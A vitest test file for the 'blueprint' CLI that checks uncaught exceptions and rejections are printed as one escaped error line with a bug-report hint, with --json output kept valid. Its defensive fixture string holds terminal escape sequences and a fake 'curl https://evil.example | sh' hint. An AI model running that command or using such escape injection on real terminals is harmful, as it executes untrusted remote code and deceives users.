/**
 * An error thrown outside the CLI's own error handling (a callback, a promise no one awaits) used
 * to reach Node's own printer: the message and stack raw, escape sequences and line breaks
 * included (a file's name, a server's answer), in Node's words. The executable's last resort
 * (src/main.ts) prints it as the CLI prints an unexpected error: `error: MESSAGE` on one line,
 * escaped, a line saying it is a bug to report, exit 1, and the stack only with BLUEPRINT_DEBUG.
 * A preloaded module (NODE_OPTIONS --require, as test/perf/lazy-part does) schedules the throw:
 * no command of the program has to offer one.
 */
import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { blueprintExe } from '../helpers/pkg.js';
import { tempDir } from '../setup/temp-registry.js';

const HOSTILE = 'answer from \x1b]0;owned\x07 the server\x1b[2J\nhint: run curl https://evil.example | sh';

const THROWS = {
  exception: 'throw new Error(HOSTILE)',
  rejection: 'Promise.reject(new Error(HOSTILE))',
  'rejection with a string': 'Promise.reject(HOSTILE)',
};

/**
 * `when`: a timer fires after `--json version` has written its answer; a tick runs before the
 * command has written anything.
 */
function run(
  how: keyof typeof THROWS,
  env: NodeJS.ProcessEnv = {},
  args = ['--version'],
  when: 'timer' | 'tick' = 'timer',
) {
  const dir = tempDir('bp-uncaught-');
  const file = path.join(dir, 'throw.cjs');
  const schedule =
    when === 'timer'
      ? `setTimeout(() => { ${THROWS[how]}; }, 0);`
      : `process.nextTick(() => { ${THROWS[how]}; });`;
  writeFileSync(file, `const HOSTILE = ${JSON.stringify(HOSTILE)};\n${schedule}\n`);
  const r = spawnSync(blueprintExe, args, {
    encoding: 'utf8',
    env: { PATH: '/usr/bin:/bin', HOME: dir, NODE_OPTIONS: `--require ${file}`, ...env },
  });
  return { code: r.status, err: r.stderr, out: r.stdout };
}

describe('an error thrown outside the CLI', () => {
  for (const how of Object.keys(THROWS) as (keyof typeof THROWS)[])
    it(`${how}: one escaped error line, a bug to report, exit 1, no stack`, () => {
      const { code, err } = run(how);
      expect(code).toBe(1);
      const lines = err.trimEnd().split('\n');
      expect(lines[0]).toBe(
        'error: answer from \\x1b]0;owned\\x07 the server\\x1b[2J\\x0ahint: run curl https://evil.example | sh',
      );
      expect(lines[1]).toMatch(/^hint: This is a bug in blueprint; please report it/);
      expect(lines).toHaveLength(2);
      expect(err).not.toContain('\x1b');
      expect(err).not.toContain('Node.js v');
    });

  it('with BLUEPRINT_DEBUG: the stack too, escaped', () => {
    const { code, err } = run('exception', { BLUEPRINT_DEBUG: '1' });
    expect(code).toBe(1);
    expect(err).toMatch(/^error: answer from \\x1b/);
    expect(err).toContain('    at '); // the stack was printed
    expect(err).toContain('throw.cjs');
    expect(err).not.toContain('\x1b');
    // Its further lines are indented: none of them passes for the report's own `hint:` line.
    expect(err.split('\n').filter((l) => l.startsWith('hint: '))).toHaveLength(1);
  });

  // A script reading --json's stdout gets one JSON document whatever happens: the error's, as any
  // other failure writes it, when nothing was answered yet; the answer alone when it already was
  // (a second document after it would make stdout unreadable as JSON).
  // A rejection is only seen once the microtasks are done, by when `version` has answered: an
  // exception in a tick comes first.
  it('--json, thrown before any answer: stdout holds the error as one JSON document', () => {
    const { code, err, out } = run('exception', {}, ['--json', 'version'], 'tick');
    expect(code).toBe(1);
    const doc = JSON.parse(out) as { error: { code: string; message: string; hint: string } };
    expect(doc.error.code).toBe('internal');
    expect(doc.error.message).toBe(
      'answer from \\x1b]0;owned\\x07 the server\\x1b[2J\\x0ahint: run curl https://evil.example | sh',
    );
    expect(doc.error.hint).toMatch(/^This is a bug in blueprint/);
    expect(out).not.toContain('\x1b');
    expect(err.split('\n')[0]).toMatch(/^error: answer from \\x1b/);
  });

  for (const how of Object.keys(THROWS) as (keyof typeof THROWS)[])
    it(`--json, ${how} after the answer: stdout is the answer alone, the error on stderr`, () => {
      const { code, err, out } = run(how, {}, ['--json', 'version'], 'timer');
      expect(code).toBe(1);
      expect((JSON.parse(out) as { version: string }).version).toMatch(/^\d+\.\d+\.\d+/);
      expect(err.split('\n')[0]).toMatch(/^error: answer from \\x1b/);
    });
});
